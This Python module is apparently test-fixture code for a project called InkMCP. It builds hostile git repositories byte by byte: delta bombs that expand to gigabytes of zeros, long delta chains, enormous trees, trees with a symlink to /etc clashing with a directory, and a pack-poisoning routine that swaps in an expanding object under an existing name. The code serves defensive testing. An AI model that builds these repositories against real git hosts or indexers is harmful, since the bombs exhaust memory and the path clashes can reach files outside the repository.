"""Hostile git repositories, built the way an attacker builds them: packs written byte by byte (git would never
write these itself), served by real git (upload-pack over a path, or a dumb-HTTP host), read by InkMCP's real git.

- `delta_bomb`: one blob of `expands` bytes stored as a delta of a 1 MiB blob of zeros: a copy instruction per MiB,
  a few KB on the wire. Whoever indexes or reads it must build the whole blob in memory (git hashes objects whole).
- `delta_chain`: `depth` blobs of `size` bytes, each a delta of the one before (copy all but 8 bytes, insert a
  counter): the pack grows by ~20 bytes per level, the work to index or read it by `size`.
- `huge_tree`: one tree object naming the empty blob `entries` times (~20 bytes per entry on disk).
- `clash_tree`: a tree naming a path twice, or a symlink and then a directory of the same name.
"""

from __future__ import annotations

import hashlib
import os
import struct
import subprocess
import time
import zlib
from pathlib import Path

BLOB, OFS_DELTA = 3, 6
MIB = 1 << 20


def _varint(n: int) -> bytes:
    """A delta header's size: 7 bits per byte, least significant first."""
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _obj_header(kind: int, size: int) -> bytes:
    first = (kind << 4) | (size & 0x0F)
    size >>= 4
    out = bytearray()
    while size:
        out.append(first | 0x80)
        first, size = size & 0x7F, size >> 7
    out.append(first)
    return bytes(out)


def _ofs(distance: int) -> bytes:
    """OFS_DELTA's base distance (git's "offset encoding": big-endian 7-bit groups, each but the last minus one)."""
    out = [distance & 0x7F]
    distance >>= 7
    while distance:
        distance -= 1
        out.insert(0, 0x80 | (distance & 0x7F))
        distance >>= 7
    return bytes(out)


def _copy(offset: int, size: int) -> bytes:
    """A delta copy instruction (size at most 0xFFFFFF)."""
    cmd, args = 0x80, bytearray()
    for i in range(4):
        if (offset >> (8 * i)) & 0xFF:
            cmd |= 1 << i
            args.append((offset >> (8 * i)) & 0xFF)
    for i in range(3):
        if (size >> (8 * i)) & 0xFF:
            cmd |= 0x10 << i
            args.append((size >> (8 * i)) & 0xFF)
    return bytes([cmd]) + bytes(args)


def _insert(data: bytes) -> bytes:
    assert 0 < len(data) < 0x80
    return bytes([len(data)]) + data


def _blob_sha(size: int, chunks: object) -> bytes:
    h = hashlib.sha1(b"blob %d\0" % size)  # noqa: S324 - git's object names are SHA-1
    for chunk in chunks:  # type: ignore[attr-defined]
        h.update(chunk)
    return h.digest()


def _zeros(size: int) -> object:
    block = bytes(MIB)
    while size > 0:
        yield block[: min(size, MIB)]
        size -= MIB


class _Pack:
    """A pack file and its v2 index, written into `repo`'s objects/pack."""

    def __init__(self) -> None:
        self.body = bytearray()
        self.objects: list[tuple[bytes, int, int]] = []  # (sha, offset, crc32)

    def add(self, sha: bytes, kind: int, size: int, payload: bytes, base_offset: int | None = None) -> int:
        offset = 12 + len(self.body)
        raw = _obj_header(kind, size) + (_ofs(offset - base_offset) if base_offset is not None else b"") \
            + zlib.compress(payload, 9)
        self.body += raw
        self.objects.append((sha, offset, zlib.crc32(raw)))
        return offset

    def write(self, repo: Path) -> Path:
        pack = b"PACK" + struct.pack(">II", 2, len(self.objects)) + bytes(self.body)
        pack_sha = hashlib.sha1(pack).digest()  # noqa: S324
        pack += pack_sha
        ordered = sorted(self.objects)
        idx = bytearray(b"\377tOc" + struct.pack(">I", 2))
        for first in range(256):
            idx += struct.pack(">I", sum(1 for sha, _, _ in ordered if sha[0] <= first))
        for sha, _, _ in ordered:
            idx += sha
        for _, _, crc in ordered:
            idx += struct.pack(">I", crc)
        for _, offset, _ in ordered:
            idx += struct.pack(">I", offset)
        idx += pack_sha
        idx += hashlib.sha1(idx).digest()  # noqa: S324
        name = pack_sha.hex()
        (repo / "objects" / "pack" / f"pack-{name}.pack").write_bytes(pack)
        (repo / "objects" / "pack" / f"pack-{name}.idx").write_bytes(bytes(idx))
        return repo / "objects" / "pack" / f"pack-{name}.pack"


def _git(repo: Path, *args: str, stdin: bytes = b"") -> str:
    return subprocess.run(["git", f"--git-dir={repo}", *args], input=stdin, capture_output=True, check=True,
                          ).stdout.decode().strip()


def _bare(path: Path) -> Path:
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(path)], check=True)
    return path


def _commit(repo: Path, entries: list[tuple[str, str, str]]) -> str:
    """Commit a tree of (mode, sha, name) on main, publish it for dumb HTTP, make it world-readable."""
    app = _git(repo, "hash-object", "-w", "--stdin", stdin=b"print('hi')\n")
    listing = "".join(f"{mode} {'tree' if mode == '040000' else 'blob'} {sha}\t{name}\n" for mode, sha, name in
                      [("100644", app, "app.py"), *entries])
    tree = _git(repo, "mktree", "--missing", stdin=listing.encode())
    commit = _git(repo, "-c", "user.name=m", "-c", "user.email=m@example.com", "commit-tree", tree, "-m", "x")
    _git(repo, "update-ref", "refs/heads/main", commit)
    _git(repo, "update-server-info")
    subprocess.run(["chmod", "-R", "go+rX", str(repo)], check=True)
    return commit


def delta_bomb(path: Path, expands: int) -> Path:
    """A bare repo whose commit holds bomb.bin, `expands` bytes of zeros sent as a delta of a 1 MiB blob."""
    repo = _bare(path)
    pack = _Pack()
    base_sha = _blob_sha(MIB, _zeros(MIB))
    base = pack.add(base_sha, BLOB, MIB, bytes(MIB))
    delta = bytearray(_varint(MIB) + _varint(expands))
    left = expands
    while left:
        step = min(left, MIB)
        delta += _copy(0, step)
        left -= step
    bomb_sha = _blob_sha(expands, _zeros(expands))
    pack.add(bomb_sha, OFS_DELTA, len(delta), bytes(delta), base_offset=base)
    pack.write(repo)
    _commit(repo, [("100644", bomb_sha.hex(), "bomb.bin"), ("100644", base_sha.hex(), "base.bin")])
    return repo


def delta_chain(path: Path, depth: int, size: int) -> Path:
    """A bare repo of `depth` blobs of `size` bytes, each a delta of the previous one, all in its commit's tree."""
    repo = _bare(path)
    pack = _Pack()
    content = bytearray(hashlib.shake_256(b"chain").digest(size))
    sha = _blob_sha(size, [content])
    offset = pack.add(sha, BLOB, size, bytes(content))
    names = [sha]
    for level in range(1, depth):
        counter = struct.pack(">Q", level)
        delta = _varint(size) + _varint(size) + _copy(0, size - 8) + _insert(counter)
        content[-8:] = counter
        sha = _blob_sha(size, [content])
        offset = pack.add(sha, OFS_DELTA, len(delta), delta, base_offset=offset)
        names.append(sha)
    pack.write(repo)
    # the levels live in a subtree (the commit's files are refused for their bytes before any is read: the
    # work is in fetching and indexing the pack)
    sub = _git(repo, "mktree", "--missing", stdin="".join(
        f"100644 blob {sha.hex()}\tl{i:06d}\n" for i, sha in enumerate(names)).encode())
    _commit(repo, [("040000", sub, "levels")])
    return repo


def huge_tree(path: Path, entries: int) -> Path:
    """A bare repo whose commit's `big` directory is one tree object of `entries` entries (all the empty blob)."""
    repo = _bare(path)
    empty = bytes.fromhex(_git(repo, "hash-object", "-w", "--stdin"))
    raw = b"".join(b"100644 f%08d\0" % i + empty for i in range(entries))
    tree = _git(repo, "hash-object", "-t", "tree", "-w", "--literally", "--stdin", stdin=raw)
    _commit(repo, [("040000", tree, "big")])
    return repo


def clash_tree(path: Path, kind: str) -> Path:
    """A bare repo whose tree names `twice` a file twice, or (`link-then-dir`) a symlink `x` and a directory `x`."""
    repo = _bare(path)
    blob = bytes.fromhex(_git(repo, "hash-object", "-w", "--stdin", stdin=b"data\n"))
    target = bytes.fromhex(_git(repo, "hash-object", "-w", "--stdin", stdin=b"/etc"))
    app = bytes.fromhex(_git(repo, "hash-object", "-w", "--stdin", stdin=b"print('hi')\n"))
    inner = bytes.fromhex(_git(repo, "hash-object", "-t", "tree", "-w", "--stdin",
                               stdin=b"100644 passwd\0" + blob))
    if kind == "twice":
        entries = b"100644 app.py\0" + app + b"100644 x\0" + blob + b"100644 x\0" + blob
    else:
        entries = b"100644 app.py\0" + app + b"120000 x\0" + target + b"40000 x\0" + inner
    tree = _git(repo, "hash-object", "-t", "tree", "-w", "--literally", "--stdin", stdin=entries)
    commit = _git(repo, "-c", "user.name=m", "-c", "user.email=m@example.com", "commit-tree", tree, "-m", "x")
    _git(repo, "update-ref", "refs/heads/main", commit)
    subprocess.run(["chmod", "-R", "go+rX", str(repo)], check=True)
    return repo


def poison(repo: Path, sha: str, kind: int, expands: int, copies: list[str]) -> None:
    """Put a pack into `repo` (a mirror the attacker can write: the local provider's tenant owns its own) that
    stores the object named `sha` as a delta expanding to `expands` bytes of zeros, of type `kind` (2 = tree). git
    does not re-hash an object it reads from a pack by name: the youngest pack answers for it, and the objects
    `copies` (copied in as they are: the commit and the trees above `sha`) keep this pack git's most recently used
    one while it walks down to `sha`."""
    pack = _Pack()
    for name in copies:
        kind_name = _git(repo, "cat-file", "-t", name)
        raw = subprocess.run(["git", f"--git-dir={repo}", "cat-file", kind_name, name], capture_output=True,
                             check=True).stdout
        pack.add(bytes.fromhex(name), {"commit": 1, "tree": 2, "blob": 3}[kind_name], len(raw), raw)
    base = pack.add(hashlib.sha1(b"poison base").digest(), kind, MIB, bytes(MIB))  # noqa: S324
    delta = bytearray(_varint(MIB) + _varint(expands))
    left = expands
    while left:
        step = min(left, MIB)
        delta += _copy(0, step)
        left -= step
    pack.add(bytes.fromhex(sha), OFS_DELTA, len(delta), bytes(delta), base_offset=base)
    written = pack.write(repo)
    later = time.time() + 60  # git asks the youngest pack first (by mtime, in seconds)
    os.utime(written, (later, later))
